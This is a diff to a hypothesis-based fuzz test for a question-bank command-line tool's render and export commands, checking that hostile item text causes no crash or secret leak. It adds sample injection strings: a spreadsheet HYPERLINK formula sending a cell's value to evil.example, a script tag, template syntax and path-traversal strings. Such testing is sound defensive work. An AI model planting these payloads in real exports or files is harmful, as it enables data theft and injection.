@@ -28,7 +28,7 @@ import tempfile
 from pathlib import Path
 from typing import Dict, List
 
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, event, given, settings
 from hypothesis import strategies as st
 
 from conftest import BANK_YAML, cli_runner
@@ -90,16 +90,47 @@ def item_file(draw) -> str:
     return json.dumps({"items": draw(st.lists(item(), min_size=1, max_size=4))}, ensure_ascii=draw(st.booleans()))
 
 
+# Text that lints without errors but is hostile to the outputs: formulas
+# for the CSV files, markup and template syntax for HTML, XML specials.
+PRINTABLE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+2", "-2", "@SUM(A1)", "<script>alert(1)</script>",
+             "{{ 7*7 }}", "{% raw %}", "]]>", "&amp;", "é中🙂", "a ../../x", "%2e%2e/", "'=x", "\u2028"]
+
+
+@st.composite
+def printable_file(draw) -> str:
+    """Items without lint errors, hostile text where text goes: so that
+    render and the exports run through and write."""
+    def said(n: int) -> str:
+        return draw(st.sampled_from(PRINTABLE)) + f" part {n}"
+
+    items = []
+    for _ in range(draw(st.integers(1, 4))):
+        options = [{"text": said(1)}, {"text": said(2), "correct": True, "why": said(3)}, {"text": said(4)}]
+        items.append({"id": "q" + draw(st.uuids()).hex[:12], "type": "single", "domain": "ingestion",
+                      "stem": f"{said(5)}: which option is right?", "options": options, "explanation": said(6)})
+    return json.dumps({"items": items}, ensure_ascii=False)
+
+
+# One in five (hypothesis prefers a list's first element, so it comes first).
+sometimes = st.sampled_from([False, False, False, False, True])
+
+
 @st.composite
 def hostile_bank(draw) -> dict:
+    # Two banks in three print: render and the exports then write their files.
+    printable = draw(st.sampled_from([True, True, False]))
     return {
-        "files": draw(st.dictionaries(st.sampled_from(FILE_NAMES), item_file(), min_size=1, max_size=3)),
+        "files": draw(st.dictionaries(st.sampled_from(FILE_NAMES), printable_file() if printable else item_file(),
+                                      min_size=1, max_size=3)),
         "schema_off": draw(st.booleans()),
-        "forms": draw(st.lists(name, min_size=1, max_size=3)),
-        "weights": draw(st.sampled_from(["34", "0", "-1", ".inf", "1e400", ".nan", "text", "[1, 2]", "1" * 5000])),
-        "link_item_out": draw(st.booleans()),
+        "forms": draw(st.lists(st.sampled_from(["A", "B"]) if printable and not draw(sometimes) else name,
+                               min_size=1, max_size=3, unique=True)),
+        "weights": "34" if printable else draw(st.sampled_from(["34", "0", "-1", ".inf", "1e400", ".nan", "text",
+                                                                "[1, 2]", "1" * 5000])),
+        # Each an error of lint: rarer in a printable bank, which should print.
+        "link_item_out": draw(sometimes if printable else st.booleans()),
         "link_cache_out": draw(st.booleans()),
-        "loop": draw(st.booleans()),
+        "loop": draw(sometimes if printable else st.booleans()),
         "planted_manifest": draw(st.booleans()),
         "command": draw(st.sampled_from(["render", "anki", "csv", "gift", "moodle", "qti"])),
         "format": draw(st.sampled_from(["text", "json", "github", "sarif"])),
@@ -132,7 +163,8 @@ def build(world: Path, spec: dict) -> Path:
     (root / "bank.yaml").write_text(bank_yaml, encoding="utf-8")
     for file_name, content in spec["files"].items():
         (root / "items" / file_name).write_text(content, encoding="utf-8")
-    (root / "exams" / "p.yaml").write_text(json.dumps({"exam": {"title": "t", "count": 1, "forms": spec["forms"]}}),
+    (root / "exams" / "p.yaml").write_text(json.dumps({"exam": {"title": "t", "count": 1, "forms": spec["forms"]}},
+                                                      ensure_ascii=False),
                                            encoding="utf-8")
     outside = world / "outside"
     (outside / "victim" / "src").mkdir(parents=True)
@@ -170,6 +202,8 @@ def check(result, what: str) -> None:
     assert result.exit_code in (0, 1, 2), (what, result.exit_code, out)
     assert "internal error" not in out and "Traceback" not in out, (what, out)
     assert SECRET not in out, (what, out)
+    # How often each command ran through, shown by --hypothesis-show-statistics.
+    event(f"{what.split()[0]} exit {result.exit_code}")
 
 
 @settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
